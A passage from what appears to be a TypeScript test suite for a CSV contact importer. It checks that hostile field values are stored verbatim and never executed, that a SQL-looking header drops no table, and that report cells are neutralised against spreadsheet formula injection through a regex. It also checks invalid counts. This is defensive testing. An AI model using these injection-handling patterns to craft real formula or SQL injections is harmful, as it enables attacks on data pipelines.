    const WORDS = ['Aardvark', 'Bluefin', 'Cormorant', 'Dromedary', 'Egret', 'Flamingo', 'Gazelle', 'Heron', 'Ibex', 'Jackal', 'Kestrel', 'Lemur', 'Marmot', 'Narwhal', 'Ocelot', 'Pelican', 'Quokka', 'Raccoon'];
    const SURNAMES = ['Abbott', 'Brennan', 'Castillo', 'Dubois', 'Eriksen', 'Fujita', 'Gallagher', 'Horvath', 'Ivanova', 'Jablonski', 'Kowalczyk', 'Lindqvist', 'Moreau', 'Nakamura', 'Okafor', 'Petrov', 'Quintero', 'Rasmussen'];
    expect(WORDS.length).toBe(HOSTILE.length);
    const rowsB = HOSTILE.map(({ v }, i) =>
      ALL_COLUMNS.map((c) => (COUNT_COLUMNS.has(c) ? v : c === 'company_name' ? `${WORDS[i]} Holdings` : c === 'full_name' ? `${SURNAMES[i]![0]}ara ${SURNAMES[i]}` : '')),
    );
    const b = buildCsv(ALL_COLUMNS, [...rowsA, ...rowsB]);
    expect(csvParseCount(b.text)).toBe(HOSTILE.length * 2);
    expect((parse(b.text, { columns: true }) as Record<string, string>[]).slice(0, 3)).toEqual(b.records.slice(0, 3));
    const x = await run(target, writeFile(b.text));
    expect(x.r.code, x.r.stderr).toBe(0);
    const nA = HOSTILE.length;
    const expected: Array<[number, Status]> = [];
    b.lines.forEach((line, i) => {
      if (i < nA) expected.push([line, HOSTILE[i]!.blank ? 'error' : 'initialized']);
      else expected.push([line, HOSTILE[i - nA]!.count === 'ok' ? 'initialized' : 'error']);
    });
    const log = await expectLogged(target, x, expected);
    // stored verbatim: the JSON value equals what was written, column by column
    log.forEach((r, i) => expect(r.source_data, `line ${r.csv_line}`).toEqual(b.records[i]));
    // placeholders as names: the row is invalid for the missing names, nothing else
    for (let i = 0; i < nA; i++) {
      if (!HOSTILE[i]!.blank) continue;
      expect(issueCodes(x, b.lines[i]!).filter((c) => !c.endsWith('_invalid') && !c.startsWith('linkedin') && !c.startsWith('phone') && !c.startsWith('date'))).toEqual(['company_name_missing', 'full_name_missing']);
    }
    // the count errors carry their code
    for (let i = 0; i < nA; i++) {
      const line = b.lines[nA + i]!;
      if (HOSTILE[i]!.count === 'ok') continue;
      expect(issueCodes(x, line).filter((c) => c.startsWith('count_')), `line ${line}`).toEqual([HOSTILE[i]!.count, HOSTILE[i]!.count, HOSTILE[i]!.count]);
    }
    // never executed: every table is still there, with the rows the log says
    await withDb(target, async (db) => {
      for (const t of TABLES_WRITTEN) {
        const e = await db.query<{ t: string | null }>('SELECT to_regclass($1)::text AS t', [t]);
        expect(e.rows[0]!.t, t).not.toBeNull();
      }
      if (target.kind === 'postgres') expect(await count(db, 'public.x')).toBe(0);
      const pid = x.summary!.process_id as string;
      const people = await db.query<{ n: number }>(
        "SELECT count(DISTINCT matched_person_id)::int AS n FROM marketing.backfill_log WHERE process_id = $1 AND resolution_status = 'initialized'",
        [pid],
      );
      expect(await count(db, 'marketing.people_master')).toBe(people.rows[0]!.n);
      expect(people.rows[0]!.n).toBeGreaterThan(nA - 3);
      await expectNoFffd(db);
      // the 20 KB value reached a master table whole
      expect(await count(db, 'marketing.people_master', 'length(title) > 20000 OR length(full_name) > 20000')).toBeGreaterThan(0);
    });
    // reports: every cell that a spreadsheet would run is neutralized, and they re-parse
    for (const name of ['fallout.csv', 'decisions.csv', 'validation.csv']) {
      const text = readFileSync(join(x.reportDir, name), 'utf8');
      const cells = parse(text, { relax_column_count: false }) as string[][];
      expect(cells.length).toBeGreaterThan(1);
      for (const row of cells) for (const c of row) expect(c, `${name}: ${JSON.stringify(c.slice(0, 60))}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // fallout.csv gives back the input's values, apostrophe-prefixed where they would be formulas
    const fallout = readReport(x, 'fallout.csv');
    const invalidLines = expected.filter(([, s]) => s === 'error').map(([l]) => l);
    expect(fallout.map((f) => Number(f.fallout_line))).toEqual(invalidLines);
    for (const f of fallout) {
      const rec = b.records[b.lines.indexOf(Number(f.fallout_line))]!;
      for (const c of ALL_COLUMNS) {
        const v = rec[c]!;
        expect(f[c], `${c} of line ${f.fallout_line}`).toBe(/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
      }
    }
  },

  // Not covered here: valid counts near 2^31-1 (e.g. 2147483647 opens) pass validation, then overflow
  // the integer baseline score / summed signal count at commit: exit 1 for the whole file (reported).
  async counts(target: Target): Promise<void> {
    const header = ['company_name', 'full_name', 'email', 'historical_open_count', 'historical_reply_count', 'historical_meeting_count'];
    const rows: Array<{ cells: string[]; status: Status; codes: Array<[string, string]> }> = [
      { cells: ['Acme', 'Ann Lee', 'ann@acme.com', '3', '1', '0'], status: 'initialized', codes: [] },
      { cells: ['Beta', 'Bob Ray', 'bob@beta.com', '-5', '0', '0'], status: 'error', codes: [['count_negative', 'historical_open_count']] },
      { cells: ['Gamma', 'Cy Dee', 'cy@gamma.com', '0', '2.5', '0'], status: 'error', codes: [['count_fractional', 'historical_reply_count']] },
      { cells: ['Delta', 'Di Fox', 'di@delta.com', '0', '0', '99999999999'], status: 'error', codes: [['count_too_large', 'historical_meeting_count']] },
      { cells: ['Eps', 'Ed Gee', 'ed@eps.com', 'twelve', '0', '0'], status: 'error', codes: [['count_not_a_number', 'historical_open_count']] },
      { cells: ['Zeta', 'Zed Hu', 'zed@zeta.com', '2147483648', '-0.5', '1e3'], status: 'error', codes: [['count_too_large', 'historical_open_count'], ['count_negative', 'historical_reply_count'], ['count_not_a_number', 'historical_meeting_count']] },
      { cells: ['Eta', 'Ela Ito', 'ela@eta.com', '1,234', '12.0', ''], status: 'initialized', codes: [] },
      { cells: ['Theta', 'Tom Ju', 'tom@theta.com', '-1', '1.5', 'NaN'], status: 'error', codes: [['count_negative', 'historical_open_count'], ['count_fractional', 'historical_reply_count'], ['count_not_a_number', 'historical_meeting_count']] },
      { cells: ['Iota', 'Ivy Ko', 'ivy@iota.com', '7', '0', '2'], status: 'initialized', codes: [] },
    ];
    const b = buildCsv(
      header,
      rows.map((r) => r.cells),
    );
    expect(csvParseCount(b.text)).toBe(rows.length);
    const x = await run(target, writeFile(b.text));
    expect(x.r.code, x.r.stderr).toBe(0);
    const log = await expectLogged(
      target,
      x,
      rows.map((r, i) => [b.lines[i]!, r.status]),
    );
    rows.forEach((r, i) => {
      const line = b.lines[i]!;
      const got = validation(x)
        .filter((v) => v.line === String(line) && v.code.startsWith('count_'))
        .map((v) => [v.code, v.column]);
      expect(got, `line ${line}`).toEqual(r.codes);
      if (r.codes.length > 0) {
        expect(validation(x).filter((v) => v.line === String(line) && v.code.startsWith('count_')).every((v) => v.severity === 'error')).toBe(true);
        for (const [, column] of r.codes) expect(log[i]!.error_message).toContain(`${column} '`);
      }
      expect(log[i]!.source_data).toEqual(b.records[i]);
    });
    expect(x.summary!.issues.errors).toBe(rows.filter((r) => r.status === 'error').length);
    await withDb(target, async (db) => {
      const snaps = await db.query<{ full_name: string; o: number; r: number; m: number; score: number }>(
        `SELECT p.full_name, s.historical_open_count AS o, s.historical_reply_count AS r, s.historical_meeting_count AS m, s.baseline_score AS score
           FROM marketing.bit_baseline_snapshot s JOIN marketing.people_master p USING (person_unique_id) ORDER BY p.full_name`,
      );
      expect(snaps.rows).toEqual([
        { full_name: 'Ann Lee', o: 3, r: 1, m: 0, score: 3 * 5 + 30 },
        { full_name: 'Ela Ito', o: 1234, r: 12, m: 0, score: 1234 * 5 + 12 * 30 },
        { full_name: 'Ivy Ko', o: 7, r: 0, m: 2, score: 7 * 5 + 2 * 50 },
      ]);
      expect(await count(db, 'marketing.people_master')).toBe(3);
    });
  },
};

// ---------------------------------------------------------------------------------------------

describe.runIf(HAS_PG)('bad input end to end on Postgres (issue 8, 1-5)', () => {
  let target: Target;
  beforeEach(async () => {
    target = await pgTarget();
    return () => target.drop();
  });

  it('1. a stray quote on line 3 of a 10,000-line file: exit 3 naming line 3, nothing written', () => scenarios.strayQuote(target));
  it('2a. ragged rows: fewer and more fields are row errors (extras kept), a trailing comma only warns', () => scenarios.raggedRows(target));
  it('2b. two headers mapping to email: exit 3 naming both, nothing written', () => scenarios.conflictingHeaders(target));
  it('2c. an exact duplicate unknown header is kept, renamed, with a warning', () => scenarios.duplicateUnknownHeader(target));
  it('2d. no full_name column: exit 3 naming it and listing the headers found, nothing written', () => scenarios.missingRequiredHeader(target));
  it('2e. a header that is SQL is an unknown column kept in source_data; no table dropped', () => scenarios.sqlHeader(target));
  it('2f. a UTF-8 BOM and CRLF line ends (with a quoted CRLF) are read cleanly', () => scenarios.bomCrlf(target));
  it('2g. an empty file, a file of blank lines and a BOM-only file: exit 3, nothing written', () => scenarios.emptyFiles(target));
  it('2h. a header-only file: exit 0, 0 rows, a no_data_rows warning', () => scenarios.headerOnly(target));
  it('2i. binary files (random bytes, a ZIP/xlsx, a PNG): exit 3, nothing written', () => scenarios.binaryFiles(target));
  it('3a. a Windows-1252 file: é, ü, € stored correctly, no U+FFFD anywhere', () => scenarios.windows1252(target));
  it('3b. UTF-16LE with a BOM is read; a lone surrogate in it rejects that row only', () => scenarios.utf16(target));
  it('3c. NUL bytes: the row is quarantined with nul_byte, the others are imported', () => scenarios.nulBytes(target));
  it('3d. invalid UTF-8 and an encoded lone surrogate in a UTF-8 file: row errors, no U+FFFD stored', () => scenarios.invalidUtf8(target));
  it('3e. a 10 MB field: record_too_large, the others imported, memory bounded', () => scenarios.hugeField(target));
  it('4. hostile values in every field: stored verbatim, never executed, reports neutralized', () => scenarios.hostileValues(target));
  it('5. negative, fractional, huge and text counts: row errors with their codes, valid rows imported', () => scenarios.counts(target));
});

describe('bad input end to end on the embedded database (a representative subset)', () => {
  let target: Target;
  beforeEach(() => {
    target = embeddedTarget();
  });
  // one data directory is created per test: ~5 s each, so only the cases where the driver matters
  it('1. a stray quote: exit 3 naming line 3, the data directory untouched', () => scenarios.strayQuote(target));
  it('2a. ragged rows', () => scenarios.raggedRows(target));
  it('3a+3d. Windows-1252 and damaged UTF-8: no U+FFFD stored', async () => {
    await scenarios.windows1252(target);
    await scenarios.invalidUtf8(target);
  });
  it('2d. no full_name column: exit 3, the data directory untouched', () => scenarios.missingRequiredHeader(target));
  it('3c. NUL bytes', () => scenarios.nulBytes(target));
  it('3e. a 10 MB field, memory bounded with the embedded database too', () => scenarios.hugeField(target));
  it('4. hostile values in every field', () => scenarios.hostileValues(target));
  it('5. bad counts', () => scenarios.counts(target));
});

afterAll(() => {
  if (!process.env.KEEP_BAD_INPUT) rmSync(WORK, { recursive: true, force: true });
});
